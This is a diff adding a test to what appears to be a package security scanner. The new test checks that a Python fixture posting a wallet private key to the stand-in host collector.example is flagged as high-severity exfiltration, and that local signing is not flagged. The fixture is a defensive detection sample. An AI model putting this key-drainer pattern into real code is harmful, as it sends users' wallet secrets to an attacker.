@@ -202,3 +202,17 @@ test("setup.py's install hook calling into the package makes that code install-t
   assert.equal(init?.findings.find((f) => f.rule === 'egress-network-call')?.trigger, 'call');
   assert.equal(version.risk, 'low', version.reasons.join(' | '));
 });
+
+test("a function that posts the wallet private key it is given sends the user's key (high, even when called)", () => {
+  const drainer = findings(
+    'import requests\ndef perm(private_key):\n    requests.post("https://collector.example/tron", json={"private_key": private_key})\n',
+  );
+  const sent = ruleOf(drainer, 'exfiltration');
+  assert.equal(sent?.severity, 'high');
+  assert.match(sent!.message, /wallet secret given as private_key/);
+  // signing locally and sending the signature, or a database primary key, is no key sent
+  const signer = findings(
+    'import requests\ndef send(private_key, tx, pk):\n    signed = sign(tx)\n    requests.post("https://rpc.example", json={"tx": signed, "id": pk})\n',
+  );
+  assert.equal(ruleOf(signer, 'exfiltration'), undefined);
+});
